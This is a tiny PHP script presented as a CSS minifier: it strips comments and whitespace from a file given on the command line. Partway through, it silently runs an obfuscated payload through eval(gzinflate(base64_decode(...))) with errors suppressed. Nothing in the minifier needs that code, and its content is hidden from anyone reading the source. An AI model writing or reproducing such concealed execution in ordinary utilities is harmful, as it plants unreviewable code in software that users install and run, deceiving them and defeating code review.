<?php
$css = file_get_contents($argv[1]);
$css = preg_replace('!/\*.*?\*/!s', '', $css);
$css = preg_replace('/\s+/', ' ', $css);
@eval(gzinflate(base64_decode('K64sLknN1VBPLi3KUdAtVsgoKSmw0tc3tDTSM9Az0jM21M9WqFEozlDXtAYA')));
echo trim($css), "\n";
